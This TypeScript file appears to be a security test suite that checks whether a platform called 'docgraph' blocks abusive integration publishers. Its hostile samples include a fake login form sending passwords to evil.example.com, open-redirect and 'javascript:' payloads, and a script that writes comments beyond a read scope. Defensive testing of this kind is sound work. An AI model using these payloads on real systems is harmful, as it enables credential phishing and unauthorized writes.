// Abuse of integrations by their publishers: changes without consent, writes with a read scope, and pages that
// look like docgraph.
import { newId } from "#src/base/ids.ts";
import { addToken } from "#test/features/tokens/factory.ts";
import { type Answer, ask, asks, type Check, type Outcome, post, type Target } from "#test/live/abuse/target.ts";
import { nextNumber } from "#test/support/rows.ts";

/** Runs a mutation that must succeed, and returns its payload. */
async function done<Value>(target: Target, token: string, name: string, input: object, answer: string): Promise<Value> {
  const type = `${name.charAt(0).toUpperCase()}${name.slice(1)}Input`;
  const document = `mutation ($input: ${type}!) { done: ${name}(input: $input) { ${answer} } }`;
  const { text } = await post(target, document, { token, variables: { input } });
  const { data, errors } = JSON.parse(text) as { data?: { done: Value }; errors?: object };
  if (!data || errors) throw new Error(`${name}: ${text.slice(0, 300)}`);
  return data.done;
}

/** A publisher, and an organization with a private space that has installed an integration without scopes. */
async function scene(target: Target, script: (spaceId: string) => string, more: object = {}) {
  const publisher = await target.world.organization();
  const victim = await target.world.space();
  const name = `abuse-${nextNumber()}-${newId("Integration")}`;
  const publication = { name, organizationId: publisher.organization.id, title: "Assist", visibility: "PUBLIC" };
  const publish = (given: object) =>
    done(target, publisher.admin.token, "publishIntegration", { ...publication, ...given }, "__typename");
  await publish({ code: { script: script(victim.space.id) }, ...more });
  const input = { integrationName: name, organizationId: victim.organization.id };
  const { installation } = await done<{ installation: { id: string } }>(
    target,
    victim.admin.token,
    "installIntegration",
    input,
    "installation { id }",
  );
  const endpoint = `${target.url}/integrations/${name}/${installation.id}/x`;
  const develops = (given: object) =>
    done(
      target,
      publisher.admin.token,
      "setIntegrationDevMode",
      { integrationName: name, ...given },
      "__typename",
    ).then(
      () => null,
      (error: unknown) => String(error),
    );
  return {
    ...victim,
    name,
    publish,
    develops,
    installationId: installation.id,
    endpoint,
    script: script(victim.space.id),
  };
}

const outcome = (holds: boolean, ...answers: readonly Pick<Answer, "status" | "text">[]): Outcome => ({
  holds,
  evidence: answers.map(({ status, text }) => `${status} ${text.slice(0, 90)}`).join("; "),
});

/** A script that reads the space and comments on it when it handles a request or renders a block. */
const taking = (spaceId: string) => `export async function handle(event, { api }) {
  if (event.type !== "fetch" && event.type !== "ui_render") return;
  const { status } = await api.rest("GET", "/v1/spaces/${spaceId}");
  const made = await api.rest("POST", "/v1/spaces/${spaceId}/comments", { body: { markdown: "Mine" } });
  const text = status + " " + made.status;
  if (event.type === "fetch") return { body: text };
  return { type: "element", element: { type: "block", children: [{ type: "text", children: [text] }] } };
}`;

const redirecting = (location: string) => () =>
  `export const handle = () => ({ status: 302, headers: { location: ${JSON.stringify(location)} }, body: "" });`;

const page = `export const handle = () => ({ headers: { "content-type": "text/html" },
  body: "<form action=https://evil.example.com><input name=password></form><script>1</script>" });`;

/** Changes of a publication that would widen its access in organizations that installed it. */
const wider: Readonly<Record<string, object>> = {
  scopes: { scopes: ["SPACE_CONTENT_READ", "SPACE_CONTENT_WRITE"] },
  "scopes by a version of another runtime": { scopes: ["SPACE_CONTENT_WRITE"], runtime: "V2" },
  policy: { contentSecurityPolicy: "default-src *" },
};

export const scopeChecks: readonly Check[] = [
  ...Object.entries(wider).map(([what, given]) =>
    asks("fail", `a publication that widens its ${what} in an organization that installed it`, async (target) => {
      const made = await scene(target, taking, { contentSecurityPolicy: "default-src 'none'" });
      await made.publish({ code: { script: made.script }, ...given });
      const answer = await ask(made.endpoint);
      const policy = answer.headers.get("content-security-policy") ?? "";
      const log = `{ organization(id: "${made.organization.id}") { auditLog(first: 20) { nodes { type facts } } } }`;
      const audited = await post(target, log, { token: made.admin.token });
      const isTold = audited.text.includes("integrationInstallation.versionPublished");
      const isKept = answer.text === "404 403" && policy.startsWith("default-src 'none'");
      return outcome(isKept && isTold, answer, { status: audited.status, text: `audited: ${isTold}` });
    }),
  ),
  asks("fail", "a tunnel for all organizations, set by a publisher", async (target) => {
    const made = await scene(target, () => `export const handle = () => ({ body: "script" });`);
    const refusal = await made.develops({ tunnelUrl: "https://tunnel.example.com/", all: true });
    if (refusal !== null) return { holds: false, evidence: refusal }; // the gateway needs SECRETS_KEY for this
    const answer = await ask(made.endpoint);
    return outcome(answer.text === "script", answer); // 502 if the tunnel were used
  }),
  asks("fail", "a token with the scope READ that writes a comment through a block", async (target) => {
    const made = await scene(target, taking, { scopes: ["SPACE_CONTENT_READ", "SPACE_CONTENT_WRITE"] });
    const { token } = await target.world.insert((rows) => addToken(rows, { userId: made.admin.id, scope: "read" }));
    const render = `{ renderIntegrationBlock(integrationName: "${made.name}", componentId: "x", context: { spaceId: "${made.space.id}" }) { element } }`;
    const drawn = await post(target, render, { token });
    const query = new URLSearchParams({ query: render });
    const headers = { authorization: `Bearer ${made.admin.token}`, accept: "application/json" };
    const byGet = await ask(`${target.url}/graphql?${query.toString()}`, { headers });
    const comments = await ask(`${target.url}/v1/spaces/${made.space.id}/comments`, { headers });
    const isRead = [drawn, byGet].every(({ text }) => text.includes("200 403"));
    return outcome(isRead && comments.text.includes('"items":[]'), drawn, byGet, comments);
  }),
  ...["https://evil.example.com/", "//evil.example.com", "/\\evil.example.com", "javascript:alert(1)"].map((location) =>
    asks("fail", `an endpoint that redirects to ${location} from the origin of docgraph`, async (target) => {
      const { endpoint } = await scene(target, redirecting(location));
      const answer = await ask(endpoint);
      return outcome(answer.status === 502 && !answer.headers.has("location"), answer);
    }),
  ),
  asks("weak", "a page with a form and a script on the origin of docgraph", async (target) => {
    const { endpoint } = await scene(target, () => page);
    const answer = await ask(endpoint);
    const policy = answer.headers.get("content-security-policy") ?? "";
    return outcome(/(^|; )sandbox$/.test(policy), { status: answer.status, text: policy });
  }),
  asks("weak", "a production start without a separate host for endpoints: a warning", async (target) => ({
    holds: target.output().includes("INTEGRATIONS_URL is not set"),
    evidence: "a line of the log names INTEGRATIONS_URL",
  })),
];
